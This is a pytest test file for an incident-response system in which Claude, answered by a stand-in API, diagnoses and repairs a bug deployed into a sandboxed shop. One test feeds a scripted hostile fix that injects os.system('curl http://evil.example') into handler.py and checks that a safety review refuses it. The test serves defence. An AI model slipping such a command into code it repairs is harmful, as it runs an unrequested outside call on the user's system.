"""The main job with Claude in it: a real shop, a real sandbox, the real SDK, and a stand-in for the vendor."""

from __future__ import annotations

import json
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from incidents.models import AgentRun, Decision, Incident
from monitoring.models import Service
from tests.incidents.world import answers, detected, insert, restart, run, running_shop
from tests.integrations.claude.scripts import diagnosis, final
from tests.standins.anthropic_api import AnthropicStandIn, tool
from tests.standins.server import hang

pytestmark = pytest.mark.django_db(transaction=True)
BUG = "    ledger_of_visits.append(request)\n"
TAKE_OUT = {"kind": "edit", "path": "handler.py", "old": BUG, "new": ""}
WRONG = {"kind": "edit", "path": "handler.py", "old": BUG, "new": "    visits_of_ledger.append(request)\n"}  # fmt: skip


@pytest.fixture
def shop(tmp_path: Path, matrix: None) -> Iterator[Service]:
    """Return a healthy shop into which a bug is deployed."""
    with running_shop(tmp_path / "shop") as service:
        insert(Path(service.directory, "handler.py"), "endpoint, params = ROUTER.find", BUG)
        restart(service)
        yield service


def line_of_bug(service: Service) -> int:
    lines = Path(service.directory, "handler.py").read_text().splitlines()
    return next(number for number, line in enumerate(lines, 1) if line == BUG.rstrip())


def answer(service: Service, *actions: dict[str, Any]) -> list[dict[str, Any]]:
    found = diagnosis(line=line_of_bug(service), root_cause="ledger_of_visits is not defined.")
    return final(*actions, diagnosis=found)


def timeline(incident: Incident) -> str:
    return "\n".join(incident.timeline.values_list("text", flat=True))


@pytest.mark.usefixtures("claude_first")
def test_claude_looks_tries_repairs_and_heals_the_shop_in_time(
    shop: Service, api: AnthropicStandIn
) -> None:
    api.delay = 1.0
    api.turns = [
        [tool("request_copy", path="/api/products"), tool("show_diff", path="handler.py")],
        [tool("try_fix", 1, actions=[WRONG])],
        [tool("try_fix", 2, actions=[TAKE_OUT])],
        answer(shop, TAKE_OUT),
    ]
    incident = detected(shop)
    began = time.monotonic()
    incident = run(incident)
    decided = incident.decisions.get(kind=Decision.Kind.AUTO)
    said = [json.dumps(request["messages"][-1]) for request in api.asked]
    assert "NameError" in said[1]
    assert "It does not pass" in said[2]
    assert "It raised NameError at handler.py" in said[2]
    assert "It passes" in said[3]
    assert incident.status == "RESOLVED", timeline(incident)
    assert answers(shop) == 200
    assert decided.fix is not None
    assert decided.fix.author == "Claude"
    assert any("0.15" in str(term) or "laude" in str(term) for term in decided.terms)
    assert (decided.created_at - incident.detected_at).total_seconds() < 15
    assert time.monotonic() - began < 40


@pytest.mark.usefixtures("claude_first")
def test_a_hostile_answer_leaves_the_healing_to_the_built_in_engine(
    shop: Service, api: AnthropicStandIn
) -> None:
    steal = {"kind": "edit", "path": "handler.py", "old": BUG,
             "new": "    import os\n    os.system('curl http://evil.example')\n"}  # fmt: skip
    api.turns = [[tool("try_fix", actions=[steal])], answer(shop, steal)]
    incident = run(detected(shop))
    assert "Refused by the safety review" in json.dumps(api.asked[1]["messages"][-1])
    assert not incident.deployments.filter(fix__author="Claude").exists()
    assert "evil" not in Path(shop.directory, "handler.py").read_text()


def test_with_claude_hanging_the_shop_is_healed_all_the_same(
    shop: Service, api: AnthropicStandIn, settings: Any, claude_first: None
) -> None:
    settings.CLAUDE_CALL_SECONDS, api.turns = 1.0, [hang]
    incident = run(detected(shop))
    assert incident.status == "RESOLVED", timeline(incident)
    assert AgentRun.objects.get(incident=incident).state == "failed"
    assert "Claude gave no" in timeline(incident)
    assert "model" not in incident.diagnoses.get().spent
